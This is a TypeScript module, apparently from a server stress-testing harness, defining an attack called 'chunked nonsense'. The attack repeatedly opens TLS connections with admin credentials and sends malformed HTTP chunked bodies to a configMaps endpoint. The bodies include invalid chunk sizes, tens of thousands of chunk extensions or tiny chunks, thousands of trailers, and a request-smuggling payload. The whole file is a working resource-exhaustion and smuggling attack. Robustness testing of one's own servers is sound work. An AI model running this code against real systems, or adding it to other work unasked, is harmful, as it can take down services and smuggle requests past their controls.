import { type Attack, configMaps, pause } from "../attack.ts";
import { tlsConnection } from "../target.ts";

const head = `POST ${configMaps} HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n`;
const bodies = [
  "zz\r\n{}\r\n0\r\n\r\n",
  "-1\r\n{}\r\n",
  `${"f".repeat(32)}\r\n{`,
  `2;${"a=b;".repeat(20_000)}\r\n{}\r\n0\r\n\r\n`,
  "1\r\n{\r\n".repeat(20_000),
  `2\r\n{}\r\n0\r\n${"X-Trailer: y\r\n".repeat(5_000)}\r\n`,
  "2\r\n{}0\r\n\r\n",
  "\r\n\r\n",
  "0\r\n\r\nGET / HTTP/1.1\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n",
];
const atOnceMax = 50;

/** Bodies whose chunks are none. */
export const chunkedNonsense: Attack = {
  name: "chunked nonsense",
  who: "admin",
  async run({ target, signal }) {
    const sockets: ReturnType<typeof tlsConnection>[] = [];
    for (let index = 0; !signal.aborted; index++) {
      const socket = tlsConnection(target, "admin").resume();
      const body = bodies[index % bodies.length] ?? "";
      socket.once("secureConnect", () => socket.write(head + body));
      sockets.push(socket);
      if (sockets.length > atOnceMax) sockets.shift()?.destroy();
      await pause(10, signal);
    }
    for (const socket of sockets) socket.destroy();
  },
};
